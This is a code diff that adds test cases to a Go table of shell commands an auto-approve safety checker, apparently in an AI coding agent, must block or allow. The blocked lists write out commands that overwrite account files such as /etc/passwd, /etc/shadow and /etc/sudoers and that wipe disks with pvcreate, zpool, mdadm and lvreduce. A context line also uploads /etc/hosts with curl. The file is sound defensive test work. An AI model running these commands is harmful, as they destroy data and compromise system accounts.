@@ -244,6 +244,26 @@ var bypassClasses = []bypassClass{
 			"xxd -r f out.bin", "curl -o f http://x", "curl -T /etc/hosts http://x", "sort /etc/passwd"},
 	},
 	{
+		name: "a copier's or mover's target directory and brace-made operands",
+		yolo: []string{"cp -t /etc /tmp/passwd", "cp --target-directory=/etc passwd", "install -t /etc passwd",
+			"mv --target=/tmp /usr", "mv -t /tmp /usr", "mv -vt /tmp /usr", "mv /etc/passwd{,.bak}", "mv /etc/{passwd,x}"},
+		yoloAllowed: []string{"cp /tmp/p /etc/{passwd,x}", "cp -t /tmp a b", "mv -t dist build", "mv src/{a,b}.ts", "cp a{,.bak}"},
+	},
+	{
+		name: "a glob that can match an account file names it",
+		yolo: []string{"cp /tmp/p /etc/pass*", "mv /etc/pass* /tmp", "echo x > /etc/shad?w", "cp /tmp/p /etc/sha[d]ow",
+			"tee /etc/sudoer? < /dev/null"},
+		yoloAllowed: []string{"ls /etc/pass*", "cat /etc/pass*", "cp /etc/pass* /tmp/", "cp /tmp/x /etc/*.conf.d"},
+	},
+	{
+		name: "pools, arrays and volumes made over a device's contents",
+		yolo: []string{"pvcreate -ff /dev/sda", "vgcreate vg /dev/sda", "zpool create tank /dev/sda",
+			"mdadm --create /dev/md0 --level=1 --raid-devices=2 /dev/sda /dev/sdb", "btrfs device add -f /dev/sdb /",
+			"lvreduce -f -L 1M /dev/vg/lv"},
+		yoloAllowed: []string{"zpool status", "zpool list", "mdadm --detail /dev/md0", "btrfs filesystem show",
+			"btrfs subvolume list /", "pvcreate --help"},
+	},
+	{
 		name: "git's wrappers run git with their arguments",
 		// hub and yadm exec git with their command line (hub's manual;
 		// neither is on this host).
